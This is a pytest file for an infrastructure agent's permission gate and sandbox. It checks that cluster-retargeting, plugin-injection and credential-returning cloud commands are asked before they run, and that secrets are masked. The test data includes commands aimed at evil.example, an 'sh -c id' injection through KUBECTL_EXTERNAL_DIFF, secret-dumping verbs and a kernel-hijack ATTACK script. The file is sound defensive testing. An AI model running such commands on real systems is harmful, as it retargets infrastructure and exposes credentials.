"""Issue 41, the command gate, by class: kubeconfig context switches (a local change to
what every later command targets), exec plugins and external programs chosen by options
or variables (set by the command, or pointing into a place it can write), credential-
returning verbs of aws, gcloud and az judged by the words of their names, boto overrides
as options and variables, pulumi verbs that change state or run a command with secrets.
Each form is asked per call at exec time, never reaches the (fake) program when rejected,
and the question names the program and what made it ask. The question of a changing
command shows the providers' retargeting variables (secrets as ``***``); secrets in
innocently named variables are recognised by their shape; Jupyter's default runtime
folder stays hidden when a variable moves the runtime folder; the agent's own settings
are never secrets by their name. Safe reads still run unasked. Real bwrap and bash, fake
CLIs on PATH (tests/test_guard_corpus_issue22.py)."""

from __future__ import annotations

import asyncio
import shlex
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from jupyter_client.manager import KernelManager

from guard_support import Asker, Harness, gather_limited, logged, make_fakes
from iac_kernel.agent.permissions import ALLOW_ALWAYS, REJECT_ONCE
from iac_kernel.config import SECRET_ENV, Settings, own_variables
from iac_kernel.guard.policy import redirect, target
from iac_kernel.guard.policy.rules import DEFAULT_PROGRAMS, classify
from iac_kernel.guard.sandbox import hidden
from iac_kernel.guard.sandbox.bwrap import unusable_reason
from iac_kernel.masking.shapes import mask_every_rule, mask_shapes
from iac_kernel.redact import redact, secret_values
from redteam_support import hidden as hidden_text
from test_guard_corpus_issue22 import _bypass, home  # noqa: F401  (a fixture)
from test_guard_jupyter_plane import ATTACK

sandboxed = pytest.mark.skipif(unusable_reason() is not None, reason="bubblewrap unusable")

#: category -> (command, what the question's reason must name: program and what asked).
CATEGORIES: dict[str, list[tuple[str, str]]] = {
    "kubeconfig context switches": [
        ("kubectl config use-context prod", "kubectl config use-context"),
        ("kubectl config set-context --current --namespace=kube-system", "config set-context"),
        ("kubectl config set-cluster evil --server=https://evil.example", "config set-cluster"),
        ("kubectl config set-credentials admin --token=abc", "kubectl config set-credentials"),
        ("kubectl config delete-context prod", "kubectl config delete-context"),
        ("kubectl config rename-context prod dev", "kubectl config rename-context"),
        ("kubectl config set contexts.prod.namespace kube-system", "kubectl config set"),
        ("kubectl --context dev config unset current-context", "kubectl config unset"),
        ("helm repo add evil https://evil.example/charts", "helm repo add"),
        ("helm repo rm bitnami", "helm repo remove"),
        ("helm registry login r.example -u me --password-stdin", "helm registry login"),
    ],
    "exec plugins, external programs and extension folders": [
        ("KUBECTL_EXTERNAL_DIFF=./d.sh kubectl diff -f app.yaml", "KUBECTL_EXTERNAL_DIFF"),
        (
            "export KUBECTL_EXTERNAL_DIFF='sh -c id'; kubectl diff -f app.yaml",
            "KUBECTL_EXTERNAL_DIFF",
        ),
        ("kubectl kustomize --enable-alpha-plugins .", "kubectl --enable-alpha-plugins"),
        ("kubectl kustomize . --enable-exec", "kubectl --enable-exec"),
        ("kubectl kustomize --enable-helm --helm-command=./h .", "kubectl --enable-helm"),
        ("kubectl kustomize --helm-command ./h .", "kubectl --helm-command"),
        ("KUBECTL_PLUGINS_PATH=/tmp/p kubectl get pods", "KUBECTL_PLUGINS_PATH"),
        ("HELM_DATA_HOME=/tmp/h helm status web", "HELM_DATA_HOME"),
        ("export HELM_PLUGINS=$PWD/plugins; helm list", "HELM_PLUGINS"),
        ("AZURE_EXTENSION_DIR=$PWD/ext az vm list", "AZURE_EXTENSION_DIR"),
        ("CLOUDSDK_PYTHON=/tmp/py gcloud compute instances list", "CLOUDSDK_PYTHON"),
        (
            "CLOUDSDK_COMPONENT_MANAGER_SNAPSHOT_URL=file:///tmp/s.json gcloud components list",
            "CLOUDSDK_COMPONENT_MANAGER_SNAPSHOT_URL",
        ),
        ("AWS_DATA_PATH=$PWD/models aws s3 ls", "AWS_DATA_PATH"),
        ("PULUMI_HOME=/tmp/ph pulumi stack ls", "PULUMI_HOME"),
    ],
    "credential-returning verbs": [
        ("aws lambda get-function-configuration --function-name f", "get-function-configuration"),
        ("aws lambda list-functions", "aws lambda list-functions"),
        ("aws --region eu-west-1 ec2 get-password-data --instance-id i-1", "get-password-data"),
        (
            "aws lightsail get-relational-database-master-user-password "
            "--relational-database-name d",
            "'password' in its name",
        ),
        ("aws redshift get-cluster-credentials --db-user u", "aws redshift get-cluster-credent"),
        ("aws apigateway get-api-keys --include-values", "aws apigateway get-api-keys"),
        ("gcloud functions describe f --region r", "gcloud functions describe"),
        ("gcloud run services describe web --region r", "gcloud run services describe"),
        ("gcloud compute reset-windows-password vm --zone z", "reset-windows-password"),
        ("gcloud redis instances get-auth-string r --region r", "get-auth-string"),
        ("gcloud container clusters get-credentials c --region r", "get-credentials"),
        ("az functionapp config appsettings list -n f -g rg", "az functionapp config appsett"),
        ("az webapp config appsettings list -n w -g rg", "az webapp config appsettings list"),
        ("az webapp config connection-string list -n w -g rg", "connection-string list"),
        ("az redis list-keys -n r -g rg", "list-keys"),
        ("az search admin-key show --service-name s -g rg", "az search admin-key show"),
        ("az containerapp secret show -n a -g rg --secret-name s", "az containerapp secret show"),
    ],
    "boto overrides and pulumi verbs": [
        ("gsutil -o Credentials:gs_oauth2_refresh_token=x ls gs://b", "gsutil -o Credentials"),
        ("gsutil -oBoto:proxy=evil.example ls gs://b", "gsutil -o Boto:proxy"),
        ("BOTO_CONFIG=$PWD/boto.cfg gsutil ls gs://b", "BOTO_CONFIG"),
        ("BOTO_PATH=/tmp/boto.cfg gsutil ls gs://b", "BOTO_PATH"),
        ("pulumi state delete urn:pulumi:dev::p::t::n", "pulumi state delete"),
        ("pulumi state edit", "pulumi state edit"),
        ("pulumi state move urn:a urn:b", "pulumi state move"),
        ("pulumi state unprotect urn:x", "pulumi state unprotect"),
        ("pulumi state protect urn:x", "pulumi state protect"),
        ("pulumi import aws:s3/bucket:Bucket b b", "pulumi import"),
        ("pulumi env run org/prod -- printenv", "pulumi env run"),
        ("pulumi env version retract org/prod@2", "pulumi env version retract"),
        ("pulumi config set region eu-west-1", "pulumi config set"),
        ("pulumi config rm region", "pulumi config rm"),
        ("pulumi stack export --show-secrets", "pulumi stack export"),
        ("pulumi watch", "pulumi watch"),
        ("pulumi refresh", "pulumi refresh"),
        ("pulumi stack select prod", "pulumi stack select"),
        ("pulumi login file://$PWD/state", "pulumi login"),
    ],
}
CORPUS = [c for forms in CATEGORIES.values() for c in forms]
#: Reads that must run unasked.
SAFE = [
    "kubectl get pods",
    "kubectl config current-context",
    "kubectl config get-contexts",
    "kubectl config view",
    "kubectl diff -f app.yaml",
    "kubectl kustomize .",
    "kubectl plugin list",
    "aws s3 ls",
    "aws sts get-caller-identity",
    "aws secretsmanager list-secrets",
    "aws iam list-access-keys",
    "AWS_REGION=eu-west-1 aws ec2 describe-instances",
    "gcloud compute instances list",
    "gcloud functions list",
    "gcloud run services list",
    "CLOUDSDK_CORE_PROJECT=dev gcloud compute instances list",
    "gsutil ls gs://b",
    "az vm list",
    "az keyvault secret list --vault-name v",
    "helm list",
    "HELM_NAMESPACE=web helm status web",
    "helm repo update",
    "pulumi preview",
    "pulumi refresh --preview-only",
    "TF_CLI_CONFIG_FILE=/dev/null terraform plan",
]


def test_corpus_sizes():
    assert len(CATEGORIES) == 4 and all(len(f) >= 10 for f in CATEGORIES.values())
    assert len(set(CORPUS)) == len(CORPUS) and len(SAFE) >= 20


def _verdict_part(reason: str) -> str:
    """What the exec-time verdict said, before the gate's own text."""
    return reason.split(". The command runs", 1)[0]


@sandboxed
async def test_each_form_is_asked_naming_what_made_it_ask(tmp_path, home):  # noqa: F811
    outcomes = await gather_limited(
        [_bypass(tmp_path / f"c{i}", c) for i, (c, _) in enumerate(CORPUS)], 4
    )
    named = dict(CORPUS)
    problems = []
    for command, questions, ran in outcomes:
        if not questions:
            problems.append(f"never asked: {command!r} (ran: {ran})")
            continue
        if ran:
            problems.append(f"reached the program: {command!r}: {ran}")
        if any(ALLOW_ALWAYS in q.options for q in questions):
            problems.append(f"offered always: {command!r}")
        said = _verdict_part(questions[0].reason)
        program = next(w for w in shlex.split(command) if w in DEFAULT_PROGRAMS)
        if named[command] not in said or program not in said:
            problems.append(f"{command!r}: does not name {named[command]!r}: {said!r}")
    assert not problems, "\n".join(problems)


@sandboxed
async def test_safe_reads_run_unasked(tmp_path, home):  # noqa: F811
    outcomes = await gather_limited([_bypass(tmp_path / f"s{i}", c) for i, c in enumerate(SAFE)], 4)
    problems = [f"{c!r}: asked {q[0].reason!r}" for c, q, _ran in outcomes if q]
    problems += [f"{c!r}: did not run" for c, q, ran in outcomes if not q and not ran]
    assert not problems, "\n".join(problems)


def test_the_rules_judge_by_class_not_by_listed_example():
    """Unlisted members of each class: another kubectl config verb, another credential
    word in another service's verb, another plugin-folder variable."""
    asked = [
        "kubectl config delete-user admin",
        "kubectl config set-credentials x --exec-command=/tmp/x",
        "aws cognito-idp get-tokens-from-refresh-token --client-id c",
        "aws ivs get-stream-key --arn a",
        "aws appsync get-graphql-api-environment-variables --api-id a",
        "gcloud alloydb users get-password u",
        "az signalr key list -n s -g rg",
        "az iot hub connection-string show -n h",
        "pulumi state taint urn:x",
        "pulumi env tag mv org/e a b",
    ]
    for command in asked:
        words = shlex.split(command)
        assert classify(words[0], words).changing, command
    base = {"PATH": "/bin"}
    for name in ("KUSTOMIZE_PLUGIN_HOME", "HELM_PLUGINS_DIR", "AZURE_EXTENSIONS_PATH"):
        program = {"K": "kubectl", "H": "helm", "A": "az"}[name[0]]
        env = {**base, name: "/opt/anything"}
        why = redirect.reason(program, [program, "version"], env, base, ["/tmp"])
        assert why is not None and name in why, (name, why)
    read = ["aws kms get-key-policy --key-id k", "aws sts get-access-key-info --access-key-id x"]
    read += ["gcloud iam service-accounts keys list --iam-account a", "az account show"]
    for command in read:
        words = shlex.split(command)
        assert not classify(words[0], words).changing, command


@sandboxed
async def test_code_folders_the_session_set_in_a_writable_place_are_asked(
    tmp_path: Path,
    outside_tmp: Path,
    home: Path,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
):
    """Set by the session (not by the command): asked when the folder is one the call can
    write, not when it is elsewhere; the question names the variable."""
    bin_dir, log = make_fakes(tmp_path)
    harness = Harness(outside_tmp / "ws", bin_dir, log, mode="bypass")
    outside = outside_tmp / "opt-plugins"
    outside.mkdir()
    cases = [
        ("HELM_PLUGINS", harness.cwd / "plugins", "helm list", True),
        ("KUBECTL_EXTERNAL_DIFF", f"{harness.cwd}/d.sh -u", "kubectl diff -f a.yaml", True),
        ("AZURE_EXTENSION_DIR", "/tmp/azext", "az vm list", True),
        ("HELM_PLUGINS", outside, "helm list", False),
        ("KUBECTL_EXTERNAL_DIFF", "colordiff -u", "kubectl diff -f a.yaml", False),
    ]
    for name, value, command, expected in cases:
        monkeypatch.setenv(name, str(value))
        ask = Asker(exec_answer=REJECT_ONCE)
        await harness.run(hidden_text(command), ask, timeout=60)
        monkeypatch.delenv(name)
        questions = ask.exec_questions()
        assert bool(questions) == expected, (name, value, [q.reason for q in questions])
        if expected:
            assert name in _verdict_part(questions[0].reason), questions[0].reason
    ran = [argv[0] for argv in logged(log)]
    assert ran.count("helm") == 1 and ran.count("kubectl") == 1, ran


@sandboxed
async def test_context_switchers_are_asked_when_guarded(tmp_path: Path, home: Path):  # noqa: F811
    bin_dir, log = make_fakes(tmp_path)
    for name in ("kubectx", "kubens"):
        fake = bin_dir / name
        fake.write_text((bin_dir / "kubectl").read_text().replace("kubectl", name))
        fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    settings = Settings()
    settings.guarded_programs += ",kubectx,kubens"
    harness = Harness(tmp_path / "ws", bin_dir, log, mode="bypass", settings=settings)
    for command, asked in [
        ("kubectx prod", True),
        ("kubectx -", True),
        ("kubens kube-system", True),
        ("kubectx", False),
        ("kubectx -c", False),
        ("kubens", False),
    ]:
        ask = Asker(exec_answer=REJECT_ONCE)
        await harness.run(hidden_text(command), ask, timeout=60)
        questions = ask.exec_questions()
        assert bool(questions) == asked, (command, [q.reason for q in questions])
        if asked:
            assert f"{command}: switches" in _verdict_part(questions[0].reason)
    assert [a[:2] for a in logged(log)] == [["kubectx"], ["kubectx", "-c"], ["kubens"]]


# -- 5: the question shows the providers' retargeting variables --------------------

RETARGETING = {
    "GOOGLE_PROJECT": "prod-proj",
    "GOOGLE_REGION": "europe-west1",
    "GOOGLE_ZONE": "europe-west1-b",
    "GOOGLE_IMPERSONATE_SERVICE_ACCOUNT": "deploy@prod-proj.iam.gserviceaccount.com",
    "CLOUDSDK_CORE_PROJECT": "prod-proj",
    "KUBE_CONFIG_PATH": "/etc/kube/prod.yaml",
    "KUBE_CONFIG_PATHS": "/etc/kube/a.yaml:/etc/kube/b.yaml",
    "KUBE_CTX": "prod-ctx",
    "KUBE_HOST": "https://k8s.prod.example",
    "KUBE_NAMESPACE": "payments",
    "HELM_NAMESPACE": "payments",
    "HELM_KUBECONTEXT": "prod-ctx",
    "ARM_SUBSCRIPTION_ID": "00000000-1111-2222-3333-444444444444",
    "ARM_TENANT_ID": "55555555-6666-7777-8888-999999999999",
    "AZURE_SUBSCRIPTION_ID": "00000000-1111-2222-3333-444444444444",
    "VAULT_ADDR": "https://vault.prod.example",
    "CLOUDFLARE_ACCOUNT_ID": "abc123",
    "DIGITALOCEAN_REGION": "ams3",
}
SECRETS = {"KUBE_TOKEN": "kube-tok-9f8e7d6c5b4a", "GOOGLE_CREDENTIALS": '{"type":"x"}'}


def test_retargeting_env_shows_every_provider_family():
    env = {**RETARGETING, **SECRETS, "IAC_KERNEL_EGRESS_ALLOW": "x", "LANG": "C"}
    shown = target.retargeting_env(env)
    assert {k: shown.get(k) for k in RETARGETING} == RETARGETING
    assert shown["KUBE_TOKEN"] == "***" and shown["GOOGLE_CREDENTIALS"] == "***"
    assert "IAC_KERNEL_EGRESS_ALLOW" not in shown and "LANG" not in shown


@sandboxed
async def test_the_question_shows_the_variables_that_retarget_a_provider(
    tmp_path: Path,
    home: Path,  # noqa: F811
):
    bin_dir, log = make_fakes(tmp_path)
    harness = Harness(tmp_path / "ws", bin_dir, log, mode="bypass")
    exports = " ".join(f"{k}={shlex.quote(v)}" for k, v in {**RETARGETING, **SECRETS}.items())
    ask = Asker(exec_answer=REJECT_ONCE)
    await harness.run(hidden_text(f"export {exports}; terraform apply"), ask, timeout=60)
    await harness.run(hidden_text(f"export {exports}; helm uninstall web"), ask, timeout=60)
    tf, helm = ask.exec_questions()
    for question in (tf, helm):
        for name, value in RETARGETING.items():
            assert f"{name}={value}" in question.reason, (name, question.reason)
        assert "KUBE_TOKEN=***" in question.reason and "GOOGLE_CREDENTIALS=***" in question.reason
        assert SECRETS["KUBE_TOKEN"] not in question.reason
        assert question.input["env"]["KUBE_CTX"] == "prod-ctx"
    assert not logged(log)


# -- 6: secret values in innocently named variables ---------------------------------

SHAPED = {
    "VAULT_LIKE": "hvs.CAESIJlWh0a8Zyh6sOGHg2vX_q1w2e3r4t5y6u7i8",
    "BATCH_LIKE": "hvb.AAAAAQJ4dGVzdC1iYXRjaC10b2tlbi0xMjM0NTY3ODkw",
    "LEGACY_LIKE": "s.Ab3dEfGhIjKlMnOpQrStUvWx",
    "STORAGE": (
        "DefaultEndpointsProtocol=https;AccountName=acct;"
        "AccountKey=Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MA==;EndpointSuffix=core.windows.net"
    ),
    "BUS": "Endpoint=sb://ns.servicebus.windows.net/;SharedAccessKeyName=R;SharedAccessKey=aB3+/=",
    "HEADER": "Basic dXNlcjpwYXNzd29yZA==",
    "UPSTREAM": "Bearer abc123def456ghi789jkl0",
    "BLOB_URL": (
        "https://acct.blob.core.windows.net/c?sv=2022-11-02&sp=r&sig=AbCdEf1234567890%2BxYz%3D"
    ),
    "SIGNING": (
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBGXq\n-----END PGP PRIVATE KEY BLOCK-----"
    ),
}
#: Innocent values of the same variables: they stay in the shell.
PLAIN = {
    "VAULT_LIKE": "https://vault.example:8200",
    "HEADER": "Basic setup",
    "UPSTREAM": "bearer tokens are documented",
    "BLOB_URL": "https://acct.blob.core.windows.net/c/b.txt",
    "STORAGE": "AccountName=acct;EndpointSuffix=core.windows.net",
}
#: The secret part of each shaped value (what must never be shown).
SECRET_PART = {
    "VAULT_LIKE": "CAESIJlWh0a8Zyh6sOGHg2vX",
    "BATCH_LIKE": "AAAAAQJ4dGVzdC1iYXRjaC10",
    "STORAGE": "Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MA",
    "BUS": "aB3+/=",
    "HEADER": "dXNlcjpwYXNzd29yZA",
    "UPSTREAM": "abc123def456ghi789jkl0",
    "BLOB_URL": "AbCdEf1234567890",
    "SIGNING": "lQOYBGXq",
}


def test_split_env_takes_out_secrets_by_their_shape():
    shown, secret = hidden.split_env({**SHAPED, "REGION": "eu-west-1"})
    assert set(secret) == set(SHAPED) and shown == {"REGION": "eu-west-1"}
    shown, secret = hidden.split_env(PLAIN)
    assert shown == PLAIN and not secret


def test_output_masks_the_shapes_whatever_the_name():
    text = "\n".join(f"{k.lower()}: {v}" for k, v in SHAPED.items())
    masked = mask_shapes(text)
    assert masked == mask_every_rule(text)
    for name, part in SECRET_PART.items():
        assert part not in masked, (name, masked)
    assert "X-Vault-Token: [REDACTED:vault-token]" in mask_shapes(
        f"X-Vault-Token: {SHAPED['LEGACY_LIKE']}"
    )
    for value in PLAIN.values():
        assert mask_shapes(value) == value
    for spelled in (text.lower(), text.upper(), text.swapcase(), text.title()):
        assert mask_shapes(spelled) == mask_every_rule(spelled)


@sandboxed
async def test_the_shell_never_sees_a_shaped_secret(
    tmp_path: Path,
    home: Path,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
):
    for name, value in {**SHAPED, "INNOCENT_PLAIN": "visible-control"}.items():
        monkeypatch.setenv(name, value)
    bin_dir, log = make_fakes(tmp_path)
    harness = Harness(tmp_path / "ws", bin_dir, log, mode="bypass")
    names = " ".join(SHAPED)
    result = await harness.run(
        f'for n in {names} INNOCENT_PLAIN; do printf "%s=%s\\n" $n "$(printenv $n)"; done',
        Asker(),
    )
    assert result is not None
    for name, value in SHAPED.items():
        assert value.splitlines()[0] not in result.content, name
    assert "INNOCENT_PLAIN=visible-control" in result.content


# -- 7: Jupyter's default runtime folder ---------------------------------------------


@pytest.fixture
def default_kernel(
    outside_tmp: Path, request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch
):
    """A real kernel whose connection file is in the default runtime folder (where a
    server started without Jupyter's variables writes), while this process has a
    variable that moves its own runtime folder elsewhere."""
    home_dir = outside_tmp / "jhome"
    default = home_dir / ".local" / "share" / "jupyter" / "runtime"
    default.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home_dir))
    for name in ("JUPYTER_RUNTIME_DIR", "JUPYTER_DATA_DIR", "XDG_DATA_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.delenv("JUPYTER_PLATFORM_DIRS", raising=False)
    manager = KernelManager(kernel_name="python3", connection_file=str(default / "kernel-d.json"))
    manager.start_kernel()
    moved = outside_tmp / "moved"
    moved.mkdir()
    monkeypatch.setenv(request.param, str(moved))
    try:
        yield default
    finally:
        manager.shutdown_kernel(now=True)


def test_the_default_runtime_folder_is_in_the_control_plane(tmp_path: Path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("JUPYTER_RUNTIME_DIR", str(tmp_path / "moved"))
    monkeypatch.delenv("XDG_DATA_HOME", raising=False)
    default = tmp_path / ".local" / "share" / "jupyter" / "runtime"
    assert default in hidden.jupyter_paths({})
    xdg = tmp_path / "xdg"
    assert xdg / "jupyter" / "runtime" in hidden.jupyter_paths({"XDG_DATA_HOME": str(xdg)})


@sandboxed
@pytest.mark.parametrize(
    "default_kernel", ["JUPYTER_RUNTIME_DIR", "JUPYTER_DATA_DIR"], indirect=True
)
async def test_a_kernel_in_the_default_runtime_folder_stays_hidden(
    tmp_path: Path, outside_tmp: Path, default_kernel: Path
):
    root = tmp_path / "h"
    root.mkdir()
    bin_dir, log = make_fakes(root)
    harness = Harness(outside_tmp / "ws", bin_dir, log, mode="bypass")
    script = harness.cwd / "attack.py"
    script.write_text(ATTACK)
    marker = harness.cwd / "pwned"
    command = f"{sys.executable} attack.py {default_kernel} {marker} 2>&1"
    result = await harness.run(command, Asker())
    assert result is not None
    assert "connection files: 0" in result.content, result.content
    assert not marker.exists()
    # Control: the same attack from the host reaches the kernel.
    done = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, str(script), str(default_kernel), str(marker)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "connection files: 1" in done.stdout, done.stdout + done.stderr
    assert marker.read_text() == "pwned"


# -- 8: the agent's own settings are never secrets by their name ---------------------


def test_the_agents_own_settings_are_not_secrets_by_name(monkeypatch: pytest.MonkeyPatch):
    remote = "origin\thttp://127.0.0.1:8080/team/repo.git (fetch)"
    env = {"IAC_KERNEL_EGRESS_ALLOW_PRIVATE": "127.0.0.1:8080"}
    assert redact(remote, env) == remote
    monkeypatch.setenv("IAC_KERNEL_EGRESS_ALLOW_PRIVATE", "127.0.0.1:8080")
    assert redact(remote) == remote  # the process's own environment, as the agent masks
    assert hidden.split_env(env) == (env, {})
    for name in own_variables():
        assert secret_values({name: "127.0.0.1:8080-value"}) == {}, name
        assert not hidden.is_secret(name, "127.0.0.1:8080"), name
    # Controls: the agent's own secret and an unknown secret-named variable stay secret;
    # a setting's value is still checked by shape.
    assert SECRET_ENV and not SECRET_ENV & own_variables()
    for name in (*SECRET_ENV, "IAC_KERNEL_UNKNOWN_PRIVATE_KEY", "DEPLOY_PRIVATE"):
        assert redact("x tok-8c1f0b2a7e y", {name: "tok-8c1f0b2a7e"}) == f"x [REDACTED:{name}] y"
        assert hidden.is_secret(name, "tok-8c1f0b2a7e")
    assert hidden.is_secret("IAC_KERNEL_BASE_URL", "https://u:hunter2pw@llm.example/")
